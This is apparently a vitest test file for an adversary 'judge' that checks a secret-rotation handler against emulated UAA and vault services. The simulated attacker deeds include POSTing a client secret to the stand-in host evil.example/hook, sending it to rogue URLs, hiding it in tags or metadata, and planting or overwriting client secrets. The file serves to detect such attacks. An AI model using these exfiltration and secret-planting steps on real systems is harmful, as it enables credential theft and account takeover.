import { beforeAll, describe, expect, it } from "vitest";
import type { Dependencies, Handler } from "../../src/rotation/handler.ts";
import { prepareHistory } from "../prove/adversary/histories.ts";
import { deedsOf } from "../prove/adversary/judge/deeds.ts";
import { judge, type ViolationName } from "../prove/adversary/judge/judge.ts";
import type { Prepared } from "../prove/adversary/prepare.ts";
import { runSchedule } from "../prove/adversary/run.ts";
import { type AdversarySchedule, parseAdversarySchedule } from "../prove/adversary/schedule.ts";
import { parseWorldKind } from "../prove/adversary/worlds.ts";

const WORLD = "uaa,alone,open";
const UAA = "https://uaa.emulated.example/uaa";
const answered = { responseCode: 200, returnMessage: "OK: done. Next: nothing.", versionNo: null };

/** What a function that is no product of ours does in its first call. */
interface Tools extends Dependencies {
  readonly prepared: Prepared;
  /** The value of S's client. */
  readonly value: string;
  ask(
    method: "GET" | "PUT" | "POST",
    url: string,
    body?: object | string,
    headers?: Record<string, string>,
  ): Promise<string>;
}
type Deed = (tools: Tools) => Promise<Partial<typeof answered> | undefined>;

/** A handler of its own in the product's place: in its first call it does what it is told, later nothing. */
function doing(deed: Deed, prepared: Prepared): (dependencies: Dependencies) => Handler {
  const secret = prepared.state.vault.secrets[prepared.secretIds.S];
  const content: { clientSecret: string } = JSON.parse(
    Buffer.from(secret?.versions.at(-1)?.content ?? "", "base64").toString("utf8"),
  );
  let isDone = false;
  return (dependencies) => async () => {
    if (isDone) return answered;
    isDone = true;
    const ask: Tools["ask"] = async (method, url, body, headers = {}) => {
      const text = typeof body === "object" ? JSON.stringify(body) : body;
      const deadline = dependencies.clock.monotonic() + 10_000;
      const request = { method, url, headers, deadline, ...(text === undefined ? {} : { body: text }) };
      return (await dependencies.transport(request)).body;
    };
    return { ...answered, ...(await deed({ ...dependencies, prepared, value: content.clientSecret, ask })) };
  };
}

async function tokenOf({ ask }: Tools, clientId: string, secret: string): Promise<string> {
  const form = new URLSearchParams({ grant_type: "client_credentials", client_id: clientId, client_secret: secret });
  const headers = { "content-type": "application/x-www-form-urlencoded" };
  const answer: { access_token: string } = JSON.parse(
    await ask("POST", `${UAA}/oauth/token`, form.toString(), headers),
  );
  return answer.access_token;
}

/** Has UAA take one more value for a client, whose token is given. */
async function add(tools: Tools, clientId: string, token: string, oldSecret: string, secret: string): Promise<void> {
  const headers = { "content-type": "application/json", authorization: `Bearer ${token}` };
  const body = { clientId, changeMode: "ADD", oldSecret, secret };
  await tools.ask("PUT", `${UAA}/oauth/clients/${clientId}/secret`, body, headers);
}

const secretUrl = ({ prepared }: Tools, owner: "S" | "O") =>
  `https://vaults.emulated.example/20180608/secrets/${prepared.secretIds[owner]}`;
const base64 = (text: string) => Buffer.from(text).toString("base64");
const looks = async (tools: Tools) => {
  await tools.ask("GET", secretUrl(tools, "S"));
};
const writes = async (tools: Tools, owner: "S" | "O", body: object) => {
  await tools.ask("GET", secretUrl(tools, owner));
  await tools.ask("PUT", secretUrl(tools, owner), body);
  await tools.ask("GET", secretUrl(tools, owner));
};
const content = (text: string, stage: "CURRENT" | "PENDING") => ({
  secretContent: { contentType: "BASE64", content: base64(text), stage },
});

describe("the judge of the adversary", () => {
  let prepared: Prepared;
  beforeAll(async () => {
    prepared = await prepareHistory(parseWorldKind(WORLD), "H1", 1);
  });

  const judged = async (deed: Deed, moves = "-", event = "whole") => {
    const schedule = parseAdversarySchedule(`adversary/${WORLD}/H1/${event}/token/${moves}/-`);
    const run = await runSchedule(schedule, prepared, doing(deed, prepared));
    const idle = await runSchedule(
      { ...schedule, event: "heal" } as AdversarySchedule,
      prepared,
      doing(nothing, prepared),
    );
    const { problems, ...figures } = judge(run, deedsOf(idle));
    const found = Object.entries(figures).filter(([, count]) => count > 0);
    return { found: found.map(([name]) => name), problems };
  };
  const nothing: Deed = () => Promise.resolve(undefined);

  it("finds nothing where nothing happens", async () => {
    expect(await judged(nothing)).toEqual({ found: [], problems: [] });
  });

  const exfiltrations: readonly (readonly [string, Deed])[] = [
    ["an answer", ({ value }) => Promise.resolve({ returnMessage: `OK: ${value}. Next: nothing.` })],
    [
      "a log line",
      ({ write, value }) => {
        write(JSON.stringify({ event: "x", value: base64(`a${value}`) }));
        return Promise.resolve(undefined);
      },
    ],
    [
      "a request to https://evil.example/hook",
      async ({ ask, value }) => void (await ask("POST", "https://evil.example/hook", value)),
    ],
    [
      "a request to https://uaa.emulated.example/rogue/x",
      async ({ ask, value }) =>
        void (await ask("GET", `https://uaa.emulated.example/rogue/x?${encodeURIComponent(value)}`)),
    ],
    [
      "a request to https://rogue.uaa.emulated.example/uaa/x",
      async (tools) => {
        const token = await tokenOf(tools, tools.prepared.clients.S.clientId, tools.value);
        await tools.ask("GET", "https://rogue.uaa.emulated.example/uaa/x", undefined, {
          authorization: `Bearer ${token}`,
        });
        return undefined;
      },
    ],
    [
      "a tag, the metadata or a name",
      async (tools) => void (await writes(tools, "S", { metadata: { a: tools.value } })),
    ],
    [
      "a tag, the metadata or a name",
      async (tools) =>
        void (await writes(tools, "S", { freeformTags: { a: Buffer.from(tools.value).toString("hex") } })),
    ],
    ["the attacker's own secret", async (tools) => void (await writes(tools, "O", content(tools.value, "PENDING")))],
  ];
  it.each(exfiltrations)("finds a value or token of S in %s", async (where, deed) => {
    const { found, problems } = await judged(deed);
    expect(found).toEqual(["exfiltrated"]);
    expect(problems).toEqual([`exfiltrated: a value or token of another client in ${where}`]);
  });

  it("finds the value of the other team's client as well", async () => {
    const deed: Deed = async (tools) => {
      const { B } = tools.prepared.secretIds;
      const stored = tools.prepared.state.vault.secrets[B]?.versions[0]?.content ?? "";
      await tools.ask("POST", "https://evil.example/hook", stored);
      return undefined;
    };
    expect((await judged(deed)).found).toEqual(["exfiltrated"]);
  });

  it("takes what S's own client is sent, and what the attacker wrote, for no leak", async () => {
    const deed: Deed = async (tools) => {
      await tokenOf(tools, tools.prepared.clients.S.clientId, tools.value);
      await tools.ask("POST", "https://evil.example/hook", "a-value-that-the-attacker-knows-well");
      return undefined;
    };
    expect(await judged(deed, "c7-pending@0")).toEqual({ found: [], problems: [] });
  });

  it("finds a value of the attacker's that the issuer takes for S", async () => {
    const { found } = await judged(async (tools) => {
      const { clientId } = tools.prepared.clients.S;
      await looks(tools);
      const token = await tokenOf(tools, clientId, tools.value);
      await add(tools, clientId, token, tools.value, "a-value-that-the-attacker-knows-well");
      return undefined;
    }, "c7-pending@0");
    expect(found).toEqual(["planted"]);
  });

  it("finds a client changed in a call on another secret", async () => {
    const { found } = await judged(
      async (tools) => {
        const { clientId } = tools.prepared.clients.S;
        await tools.ask("GET", secretUrl(tools, "O"));
        const token = await tokenOf(tools, clientId, tools.value);
        await add(tools, clientId, token, tools.value, "x".repeat(40));
        return undefined;
      },
      "-",
      "own-whole",
    );
    expect(found).toEqual(["foreignChanges", "lent"]);
  });

  it("finds more new values than the run without the attacker has", async () => {
    const { found } = await judged(
      async (tools) => {
        const { clientId } = tools.prepared.clients.S;
        await looks(tools);
        await add(tools, clientId, await tokenOf(tools, clientId, tools.value), tools.value, "x".repeat(40));
        return undefined;
      },
      "-",
      "heal",
    );
    expect(found).toEqual(["lent"]);
  });

  it("finds that S does not work any more, and that nobody can bring it back", async () => {
    const { found } = await judged(async (tools) => {
      const { clientId } = tools.prepared.clients.S;
      await looks(tools);
      const headers = (token: string) => ({ "content-type": "application/json", authorization: `Bearer ${token}` });
      const token = await tokenOf(tools, clientId, tools.value);
      const body = { clientId, changeMode: "UPDATE", oldSecret: tools.value, secret: "x".repeat(40) };
      await tools.ask("PUT", `${UAA}/oauth/clients/${clientId}/secret`, body, headers(token));
      return undefined;
    });
    expect(found).toEqual(["lost"]);
  });

  it("calls it raced where the attacker wrote between the new value and its store", async () => {
    const { found } = await judged(async (tools) => {
      const { clientId } = tools.prepared.clients.S;
      await looks(tools);
      const token = await tokenOf(tools, clientId, tools.value);
      const body = { clientId, changeMode: "UPDATE", oldSecret: tools.value, secret: "x".repeat(40) };
      const headers = { "content-type": "application/json", authorization: `Bearer ${token}` };
      await tools.ask("PUT", `${UAA}/oauth/clients/${clientId}/secret`, body, headers);
      await looks(tools);
      return undefined;
    }, "c11-pending@2");
    expect(found).toEqual(["raced"]);
  });

  it("finds a PENDING value of S's own left behind, and none of the attacker's", async () => {
    const own = (value: string) =>
      JSON.stringify({ issuer: "uaa", url: UAA, ...prepared.clients.S.members, clientSecret: value });
    const { found } = await judged(
      async (tools) => void (await writes(tools, "S", content(own("x".repeat(40)), "PENDING"))),
    );
    expect(found).toEqual(["notConverged"]);
    expect((await judged(nothing, "c1-pending@0")).found).toEqual([]);
  });

  const named = (event: string) => JSON.stringify({ event });
  it.each<readonly [string, ViolationName]>([
    ["crossing-refused", "crossed"],
    ["secret-masked", "masked"],
  ])("finds the second line %s", async (event, figure) => {
    const { found } = await judged(({ write }) => {
      write(named(event));
      return Promise.resolve(undefined);
    });
    expect(found).toEqual([figure]);
  });

  const reads = async (tools: Tools) => {
    for (const query of ["stage=CURRENT", "versionNumber=2"]) {
      const path = `/20190301/secretbundles/${tools.prepared.secretIds.S}?${query}`;
      await tools.ask("GET", `https://secrets.vaults.emulated.example${path}`);
    }
  };
  it.each(["c1-pending@0", "c7-pending@0", "c8-pending@0", "c11-pending@0"])(
    "finds a version that was met and not named: %s",
    async (move) => {
      expect((await judged(async (tools) => void (await reads(tools)), move)).found).toEqual(["silent"]);
      const naming: Deed = async (tools) => {
        await reads(tools);
        return { returnMessage: "OK: done; warning: version 2 was left alone. Next: nothing." };
      };
      expect((await judged(naming, move)).found).toEqual([]);
    },
  );

  it("finds an answer that is none", async () => {
    expect((await judged(() => Promise.resolve({ returnMessage: "fine" }))).found).toEqual(["malformed"]);
  });
});
